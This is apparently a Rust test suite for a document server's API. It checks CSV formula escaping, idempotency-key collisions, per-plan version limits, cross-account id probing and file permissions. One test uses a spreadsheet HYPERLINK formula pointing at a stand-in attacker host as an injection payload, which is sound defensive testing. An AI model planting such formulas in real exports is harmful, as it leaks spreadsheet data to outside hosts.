//! Data at rest and its exports: formulas smuggled into the ledger CSV, an idempotency key that
//! takes the server's own place, versions without end, ids probed across accounts, secrets
//! and files anyone on the host could read.

use reqwest::Method;
use serde_json::json;

use super::*;
use crate::rest::{self, call, get, post, register};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_an_idempotency_key_does_not_run_in_the_ledger_csv() {
    let mut server = server(&[]);
    let before = baseline(&server);
    let owner = register(&server, "owner@example.com").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let (s, body) = rest::charge(&server, &owner, "inference", formula).await;
    assert_eq!(s, 201, "{body}");
    let csv = http()
        .get(server.url(&format!("/api/v1/accounts/{}/ledger.csv", owner.account_id)))
        .bearer_auth(&owner.access)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let keys: Vec<String> = rows
        .records()
        .map(|r| r.unwrap().get(8).unwrap().to_string())
        .collect();
    assert!(keys.contains(&format!("'{formula}")), "{csv}");
    assert!(
        keys.iter().all(|k| !k.starts_with(['=', '+', '-', '@'])),
        "{csv}"
    );
    still_serving(
        &mut server,
        "CSV formula",
        (&acme_editor(), "csv-doc"),
        before,
        64,
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_key_cannot_take_the_place_of_the_servers_own() {
    let mut server = server(&[]);
    let before = baseline(&server);
    let owner = register(&server, "owner@example.com").await;
    let reserve = |key: String| {
        let (server, owner) = (&server, &owner);
        async move {
            let resp = http()
                .post(server.url(&format!(
                    "/api/v1/accounts/{}/reservations",
                    owner.account_id
                )))
                .bearer_auth(&owner.access)
                .header("Idempotency-Key", key)
                .json(&json!({ "action": "sample_generation", "quantity": 1 }))
                .send()
                .await
                .unwrap();
            let status = resp.status().as_u16();
            (status, resp.json::<serde_json::Value>().await.unwrap())
        }
    };
    let (s, r) = reserve("first".into()).await;
    assert_eq!(s, 201, "{r}");
    let id = r["reservation_id"].as_str().unwrap().to_string();
    // A charge whose key is what the server uses to capture that reservation.
    let (s, body) = rest::charge(&server, &owner, "inference", &format!("capture:{id}")).await;
    assert_eq!(s, 201, "{body}");
    let (s, settled) = post(
        &server,
        &format!(
            "/api/v1/accounts/{}/reservations/{id}/capture",
            owner.account_id
        ),
        &owner.access,
        json!({ "quantity": 1 }),
    )
    .await;
    assert_eq!(s, 200, "the capture is not stuck: {settled}");
    assert_eq!(settled["reservation"]["status"], "captured");
    still_serving(
        &mut server,
        "colliding idempotency key",
        (&acme_editor(), "keys-doc"),
        before,
        64,
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn versions_are_bounded_per_document_by_the_plan() {
    let mut server = server(&[("CREO_TIERS__FREE__VERSIONS_PER_DOCUMENT", "5")]);
    let owner = register(&server, "owner@example.com").await;
    let (s, _) = post(
        &server,
        "/api/v1/documents",
        &owner.access,
        json!({ "id": "big-post" }),
    )
    .await;
    assert_eq!(s, 201);
    let resp = post_update(
        &server,
        &owner.access,
        "big-post",
        text_update(&"x".repeat(1 << 20)),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let before = baseline(&server);
    let mut statuses = Vec::new();
    for i in 0..8 {
        let (s, _) = post(
            &server,
            "/api/v1/documents/big-post/versions",
            &owner.access,
            json!({ "name": format!("v{i}") }),
        )
        .await;
        statuses.push(s);
    }
    assert_eq!(statuses, [201, 201, 201, 201, 201, 402, 402, 402]);
    let (_, versions) = get(
        &server,
        "/api/v1/documents/big-post/versions",
        &owner.access,
    )
    .await;
    assert_eq!(versions.as_array().unwrap().len(), 5);
    still_serving(
        &mut server,
        "versions in a loop",
        (&owner.access, "big-post"),
        before,
        128,
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_accounts_document_ids_answer_like_unused_ones() {
    let mut server = server(&[]);
    let before = baseline(&server);
    let alice = register(&server, "alice@example.com").await;
    let mallory = register(&server, "mallory@example.com").await;
    let (s, _) = post(
        &server,
        "/api/v1/documents",
        &alice.access,
        json!({ "id": "plans" }),
    )
    .await;
    assert_eq!(s, 201);
    for path in ["/api/v1/documents/plans", "/api/v1/documents/plans/state"] {
        let taken = call(&server, Method::GET, path, Some(&mallory.access), None).await;
        let unused = call(
            &server,
            Method::GET,
            &path.replace("plans", "no-such-doc"),
            Some(&mallory.access),
            None,
        )
        .await;
        assert_eq!((taken.0, &taken.1), (unused.0, &unused.1), "{path}");
        assert_eq!(taken.0, 404);
    }
    still_serving(
        &mut server,
        "id probing",
        (&acme_editor(), "probe-doc"),
        before,
        64,
    )
    .await;
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn store_files_are_the_servers_alone_and_hold_no_secret_in_the_clear() {
    use std::os::unix::fs::PermissionsExt;
    let mut server = server(&[]);
    let before = baseline(&server);
    let owner = register(&server, "owner@example.com").await;
    let (s, ep) = post(
        &server,
        &format!("/api/v1/accounts/{}/webhooks", owner.account_id),
        &owner.access,
        json!({ "url": "http://127.0.0.1:9/hook", "events": ["comment.added"] }),
    )
    .await;
    assert_eq!(s, 201, "{ep}");
    let secret = ep["secret"].as_str().unwrap().to_string();
    let mode = |name: &str| {
        std::fs::metadata(server.data.join(name))
            .map(|m| m.permissions().mode() & 0o777)
            .unwrap_or(0)
    };
    assert_eq!(mode(""), 0o700, "the data directory");
    for file in ["creo.db", "creo.db-wal", "secrets_key"] {
        assert_eq!(mode(file), 0o600, "{file}");
    }
    let mut stored = std::fs::read(server.data.join("creo.db")).unwrap();
    stored.extend(std::fs::read(server.data.join("creo.db-wal")).unwrap_or_default());
    assert!(
        !stored.windows(secret.len()).any(|w| w == secret.as_bytes()),
        "the webhook secret is stored in the clear"
    );
    still_serving(
        &mut server,
        "data at rest",
        (&acme_editor(), "files-doc"),
        before,
        64,
    )
    .await;
}
